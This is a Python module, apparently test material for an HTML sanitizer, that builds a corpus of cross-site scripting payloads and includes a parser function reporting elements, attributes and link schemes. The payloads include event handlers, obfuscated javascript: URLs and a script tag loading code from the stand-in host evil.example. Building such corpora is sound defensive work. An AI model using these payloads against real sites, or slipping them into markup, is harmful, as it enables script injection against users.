"""A hundred pieces of markup that a browser would run, and what an HTML5 parser finds in a page."""

import re
from typing import Final

from lxml import etree, html

_BREAKS: Final = ("", '">', "'>", "-->", "</title>", "</textarea>", "]]>")  # out of where text stands
_ELEMENTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<b onclick=alert(1)>'></iframe>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<object data=data:text/html,x></object>",
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(2)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
)
_ATTRIBUTES: Final = tuple(
    f"{quote}{between}{attribute} x={quote}"
    for quote in ('"', "'", " ")
    for between, attribute in (
        (" ", "onmouseover=alert(1)"),
        ("\t", "onfocus=alert(1) autofocus"),
        ("\n", "style=animation-name:x onanimationstart=alert(1)"),
        ("/", "onclick=alert(1)"),
        (" ", "onpointerenter=alert`1`"),
    )
)  # fmt: skip
LINKS: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "javascript:https://evil.example",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "blob:https://evil.example/1",
)
PAYLOADS: Final = (*(start + element for start in _BREAKS for element in _ELEMENTS), *_ATTRIBUTES, *LINKS)

_LEADING: Final = {"href", "src", "action", "formaction", "xlink:href", "poster", "data"}  # attributes that lead away


def found(page: str) -> set[str]:
    """Return the elements, attributes and schemes of links in a page, as a browser's parser takes it.

    libxml2 reads tags, attributes and raw text by the rules of HTML5 since 2.14.
    """
    things: set[str] = set()
    if not page.strip():
        return things
    for element in html.document_fromstring(page).iter(etree.Element):
        things.add(f"<{element.tag}>")
        for name, value in element.attrib.items():
            things.add(f"{element.tag}[{name}]")
            if name in _LEADING and (leads := scheme(str(value))):
                things.add(f"{leads}:")
    return things


def scheme(address: str) -> str:
    """Return the scheme of an address, in small letters; a browser drops control characters and space (WHATWG URL)."""
    bare = re.sub(r"[\t\r\n]", "", address.strip("".join(map(chr, range(33)))))
    read = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", bare)
    return read[1].lower() if read else ""
